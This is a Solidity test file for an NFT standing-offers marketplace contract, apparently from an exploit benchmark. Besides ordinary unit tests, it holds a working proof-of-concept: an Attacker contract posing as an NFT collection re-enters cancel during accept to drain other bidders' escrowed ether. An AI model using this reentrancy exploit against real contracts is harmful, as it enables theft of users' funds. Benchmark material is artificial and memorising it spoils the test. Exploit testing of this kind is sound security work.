// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC721} from "@openzeppelin/contracts@5.4.0/token/ERC721/ERC721.sol";
import {IERC721} from "@openzeppelin/contracts@5.4.0/token/ERC721/IERC721.sol";
import "./StandingOffers.sol";

// assay-canary-9b0d71a4-1e2f-4f9f-891e-5391e204dfde

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Prints is ERC721("Prints", "PRT") {
    address private printer = msg.sender;

    function mint(address to, uint256 id) external {
        require(msg.sender == printer, "printer");
        _mint(to, id);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint64 private constant START = 1700000000;

    StandingOffers private board;
    Prints private prints;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        board = new StandingOffers(200);
        prints = new Prints();
        prints.mint(ANA, 1);
        prints.mint(ANA, 2);
        vm.deal(BEN, 100 ether);
        vm.prank(BEN);
        board.offer{value: 15 ether}(prints, 1, START + 30 days);
        mallory = new Attacker(board);
        vm.deal(address(mallory), 5 ether);
    }

    function test_Regular() public {
        vm.startPrank(BEN);
        board.raise{value: 1 ether}(1, START + 40 days);
        uint256 second = board.offer{value: 3 ether}(prints, 2, START + 1);
        require(second == 2 && BEN.balance == 81 ether);
        board.cancel(2);
        vm.stopPrank();
        require(BEN.balance == 84 ether);
        vm.warp(START + 40 days);
        vm.startPrank(ANA);
        prints.approve(address(board), 1);
        board.accept(1, 16 ether);
        vm.stopPrank();
        require(ANA.balance == 15.68 ether && prints.ownerOf(1) == BEN && board.feesDue() == 0.32 ether);
        (address bidder, , , , ) = board.offers(1);
        require(bidder == address(0));
        board.takeFees(payable(CAT));
        require(CAT.balance == 0.32 ether && board.feesDue() == 0 && address(board).balance == 0);
        board.transferOwnership(CAT);
        vm.prank(CAT);
        board.renounceOwnership();
        require(board.owner() == address(0));
    }

    function test_RefusesOpening() public {
        vm.expectRevert("fee too high");
        new StandingOffers(501);
    }

    function test_RefusesOffers() public {
        vm.startPrank(BEN);
        vm.expectRevert("no money");
        board.offer(prints, 2, START + 1);
        vm.expectRevert(StandingOffers.OutOfTime.selector);
        board.offer{value: 1}(prints, 2, START);
        vm.stopPrank();
        vm.deal(ANA, 2 ** 129);
        vm.startPrank(ANA);
        vm.expectRevert("too much money");
        board.offer{value: 2 ** 128}(prints, 2, START + 1);
        vm.stopPrank();
    }

    function test_RefusesChanges() public {
        vm.expectRevert(StandingOffers.NotYours.selector);
        board.cancel(1);
        vm.expectRevert(StandingOffers.NotYours.selector);
        board.raise(1, START + 60 days);
        vm.deal(BEN, 2 ** 129);
        vm.startPrank(BEN);
        vm.expectRevert(StandingOffers.OutOfTime.selector);
        board.raise(1, START + 30 days - 1);
        vm.expectRevert("too much money");
        board.raise{value: 2 ** 128}(1, START + 30 days);
        vm.stopPrank();
    }

    function test_RefusesSales() public {
        vm.startPrank(ANA);
        prints.setApprovalForAll(address(board), true);
        vm.expectRevert("price moved");
        board.accept(1, 15 ether + 1);
        vm.expectRevert("price moved");
        board.accept(9, 0);
        vm.warp(START + 30 days + 1);
        vm.expectRevert(StandingOffers.OutOfTime.selector);
        board.accept(1, 15 ether);
        vm.stopPrank();
    }

    function test_RefusesWithoutItem() public {
        vm.prank(ANA);
        vm.expectRevert();
        board.accept(1, 15 ether);
        vm.prank(CAT);
        vm.expectRevert();
        board.accept(1, 0);
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSignature("OwnableUnauthorizedAccount(address)", ANA));
        board.takeFees(payable(ANA));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 19 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(board);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Helper {
    address private boss = msg.sender;

    receive() external payable {}

    function accept(StandingOffers board, uint256 id) external {
        require(msg.sender == boss, "boss");
        board.accept(id, 0);
        payable(boss).transfer(address(this).balance);
    }
}

// Bidder and collection in one.
contract Attacker {
    StandingOffers private board;
    Helper private helper;
    uint256 private current;

    constructor(StandingOffers b) {
        board = b;
        helper = new Helper();
    }

    receive() external payable {}

    function run() external {
        while (address(board).balance >= 5 ether) {
            uint256 amount = 5 ether;
            current = board.offer{value: amount}(IERC721(address(this)), 1, uint64(block.timestamp + 1));
            helper.accept(board, current);
            if (address(board).balance < 5 ether) break;
        }
    }

    function safeTransferFrom(address, address, uint256) external {
        require(msg.sender == address(board), "board");
        board.cancel(current);
    }
}
